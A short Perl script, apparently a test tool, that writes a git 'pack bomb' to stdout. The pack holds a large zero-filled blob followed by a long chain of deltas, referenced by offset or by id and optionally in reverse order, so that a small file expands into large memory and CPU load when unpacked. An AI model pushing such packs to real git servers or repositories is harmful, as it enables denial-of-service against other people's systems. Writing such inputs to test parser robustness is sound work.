# usage: bomb.pl <deltas> <bytes> [by-id|late]
# A pack on stdout of one object of so many zeros and a chain of deltas of it,
# each the object before with other 8 bytes in front. by-id: each names its
# base by id. late: and comes before it.
use strict;
use warnings;
use Compress::Zlib qw(compress);
use Digest::SHA qw(sha1);

my ($n, $size, $how) = (@ARGV, '');

sub head {
	my ($type, $len) = @_;
	my $byte = $type << 4 | $len & 15;
	my $out = '';
	for ($len >>= 4; $len; $len >>= 7) {
		$out .= chr($byte | 128);
		$byte = $len & 127;
	}
	return $out . chr $byte;
}

sub number {
	my ($value) = @_;
	my $out = '';
	for (; $value > 127; $value >>= 7) { $out .= chr($value & 127 | 128) }
	return $out . chr $value;
}

sub distance {
	my ($value) = @_;
	my $out = chr($value & 127);
	while ($value >>= 7) { $out = chr(--$value & 127 | 128) . $out }
	return $out;
}

sub id {
	my ($front) = @_;
	return sha1("blob $size\0$front" . "\0" x ($size - length $front));
}

my $base = "\0" x $size;
my @entries = head(3, $size) . compress($base, 9);
my $front = '';
for my $i (1 .. $n) {
	my $delta = number($size) . number($size) . chr(8) . pack('Q<', $i);
	for (my $at = 8; $at < $size; $at += 0xffffff) {
		my $len = $size - $at < 0xffffff ? $size - $at : 0xffffff;
		$delta .= chr(0xf7) . substr(pack('V', $at), 0, 3) .
			substr(pack('V', $len), 0, 3);
	}
	my $by = $how ? head(7, length $delta) . id($front) :
		head(6, length $delta) . distance(length $entries[-1]);
	push @entries, $by . compress($delta, 9);
	$front = pack('Q<', $i);
}
@entries = reverse @entries if $how eq 'late';
my $pack = 'PACK' . pack('NN', 2, $n + 1) . join '', @entries;
binmode STDOUT;
print $pack, sha1($pack);
